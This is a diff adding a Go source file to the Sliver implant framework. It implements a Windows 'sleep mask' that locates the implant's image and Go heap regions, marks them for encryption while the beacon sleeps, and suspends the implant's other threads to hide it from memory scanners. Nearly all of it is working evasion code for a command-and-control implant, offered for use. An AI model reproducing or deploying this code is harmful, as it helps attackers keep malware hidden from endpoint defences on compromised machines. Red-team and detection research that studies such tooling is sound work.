@@ -0,0 +1,226 @@
+package sleepmask
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"errors"
+	"math"
+	"reflect"
+	"runtime"
+	"runtime/debug"
+	"time"
+	"unsafe"
+
+	"github.com/bishopfox/sliver/implant/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+const (
+	memFree    = 0x10000
+	memPrivate = 0x20000
+
+	threadQuerySetWin32StartAddress = 9
+
+	// maxThreads - Threads that run the implant's code, they're all suspended while it sleeps
+	maxThreads = 64
+	// maxRegions - Ranges of memory the sleep mask encrypts
+	maxRegions = 64
+	// maxImageRegions - Sections of the image whose protection is restored on wake up
+	maxImageRegions = 32
+)
+
+var (
+	errUnsupported    = errors.New("sleep masks are not supported on this architecture")
+	errTooManyThreads = errors.New("too many threads to suspend")
+
+	// heapProbe - An allocation that's always on the go heap, its arenas are found from it
+	heapProbe []byte
+)
+
+// region - A range of memory the timer chain encrypts or restores the protection of
+type region struct {
+	base    uintptr
+	size    uintptr
+	protect uint32
+}
+
+// threads - The other threads of the implant, preallocated since nothing can be
+// allocated once some of them are suspended
+type threads struct {
+	handles [maxThreads]windows.Handle
+	ids     [maxThreads]uint32
+	count   int
+	entry   windows.ThreadEntry32
+	start   uintptr
+}
+
+// Sleep - Sleep with the beacon's memory encrypted, the sleep isn't masked if the
+// memory can't be (e.g. on an unsupported architecture)
+func Sleep(duration time.Duration) {
+	if duration <= 0 {
+		return
+	}
+	started := time.Now()
+
+	// This goroutine's thread is the only thread of the implant that keeps running
+	runtime.LockOSThread()
+	defer runtime.UnlockOSThread()
+
+	// A collection that stops the world can't finish while threads are suspended,
+	// disabling the gc also waits for one that's running to finish
+	gcPercent := debug.SetGCPercent(-1)
+	defer debug.SetGCPercent(gcPercent)
+
+	err := mask(duration, maskImage())
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[sleepmask] %s, sleeping unmasked", err)
+		// {{end}}
+		time.Sleep(duration - time.Since(started))
+	}
+}
+
+// maskImage - Only ekko encrypts the image, and only of executables since a dll's
+// entry point is called whenever a thread of the process starts or exits
+func maskImage() bool {
+	image := `{{.Config.SleepMask}}` == "ekko"
+	// {{if or .Config.IsSharedLib .Config.IsShellcode}}
+	image = false
+	// {{end}}
+	return image
+}
+
+// imageRange - The allocation the implant's code is in, the image of executables and
+// dlls or the memory a shellcode loader mapped it to, and its committed sections
+func imageRange(sections []region) (uintptr, uintptr, []region, error) {
+	var info windows.MemoryBasicInformation
+	err := windows.VirtualQuery(reflect.ValueOf(Sleep).Pointer(), &info, unsafe.Sizeof(info))
+	if err != nil {
+		return 0, 0, sections, err
+	}
+	base := info.AllocationBase
+	address := base
+	for windows.VirtualQuery(address, &info, unsafe.Sizeof(info)) == nil && info.AllocationBase == base {
+		if info.State == windows.MEM_COMMIT && len(sections) < cap(sections) {
+			sections = append(sections, region{base: info.BaseAddress, size: info.RegionSize, protect: info.Protect})
+		}
+		address = info.BaseAddress + info.RegionSize
+	}
+	return base, address - base, sections, nil
+}
+
+// heapRegions - The committed memory of the go heap's arenas, which also hold the
+// goroutine stacks. The arenas are reserved next to each other so the private
+// memory around the probe is walked until there's a gap
+func heapRegions(regions []region) []region {
+	var info windows.MemoryBasicInformation
+	size := unsafe.Sizeof(info)
+	if windows.VirtualQuery(uintptr(unsafe.Pointer(&heapProbe[0])), &info, size) != nil {
+		return regions
+	}
+	start := info.AllocationBase
+	for windows.VirtualQuery(start-1, &info, size) == nil && info.State != memFree && info.Type == memPrivate {
+		start = info.AllocationBase
+	}
+	address := start
+	for windows.VirtualQuery(address, &info, size) == nil && info.State != memFree && info.Type == memPrivate {
+		if info.State == windows.MEM_COMMIT && info.Protect == windows.PAGE_READWRITE && info.RegionSize <= math.MaxUint32 && len(regions) < cap(regions) {
+			regions = append(regions, region{base: info.BaseAddress, size: info.RegionSize, protect: info.Protect})
+		}
+		address = info.BaseAddress + info.RegionSize
+	}
+	return regions
+}
+
+// suspendThreads - Suspend the other threads that run the implant's code, they're
+// found by their start address since the thread pool's threads (which run the
+// timers) start in ntdll. Threads started while suspending are found by the next pass
+func suspendThreads(suspended *threads, imageBase uintptr, imageSize uintptr) error {
+	pid := windows.GetCurrentProcessId()
+	current := windows.GetCurrentThreadId()
+	for pass := 0; pass < 5; pass++ {
+		found := false
+		snapshot, err := windows.CreateToolhelp32Snapshot(windows.TH32CS_SNAPTHREAD, 0)
+		if err != nil {
+			return err
+		}
+		suspended.entry.Size = uint32(unsafe.Sizeof(suspended.entry))
+		for err = windows.Thread32First(snapshot, &suspended.entry); err == nil; err = windows.Thread32Next(snapshot, &suspended.entry) {
+			if suspended.entry.OwnerProcessID != pid || suspended.entry.ThreadID == current || suspended.contains(suspended.entry.ThreadID) {
+				continue
+			}
+			thread, err := windows.OpenThread(windows.THREAD_SUSPEND_RESUME|windows.THREAD_QUERY_INFORMATION, false, suspended.entry.ThreadID)
+			if err != nil {
+				continue // The thread exited
+			}
+			suspended.start = 0
+			syscalls.NtQueryInformationThread(thread, threadQuerySetWin32StartAddress, uintptr(unsafe.Pointer(&suspended.start)), uint32(unsafe.Sizeof(suspended.start)), nil)
+			if suspended.start < imageBase || imageBase+imageSize <= suspended.start {
+				windows.CloseHandle(thread)
+				continue
+			}
+			if suspended.count == maxThreads {
+				windows.CloseHandle(thread)
+				windows.CloseHandle(snapshot)
+				return errTooManyThreads
+			}
+			if _, err := syscalls.SuspendThread(thread); err != nil {
+				windows.CloseHandle(thread)
+				continue
+			}
+			suspended.handles[suspended.count] = thread
+			suspended.ids[suspended.count] = suspended.entry.ThreadID
+			suspended.count++
+			found = true
+		}
+		windows.CloseHandle(snapshot)
+		if !found {
+			return nil
+		}
+	}
+	return nil
+}
+
+// resume - Resume and close the suspended threads
+func (suspended *threads) resume() {
+	for index := 0; index < suspended.count; index++ {
+		windows.ResumeThread(suspended.handles[index])
+	}
+	suspended.close()
+}
+
+func (suspended *threads) close() {
+	for index := 0; index < suspended.count; index++ {
+		windows.CloseHandle(suspended.handles[index])
+	}
+	suspended.count = 0
+}
+
+func (suspended *threads) contains(id uint32) bool {
+	for index := 0; index < suspended.count; index++ {
+		if suspended.ids[index] == id {
+			return true
+		}
+	}
+	return false
+}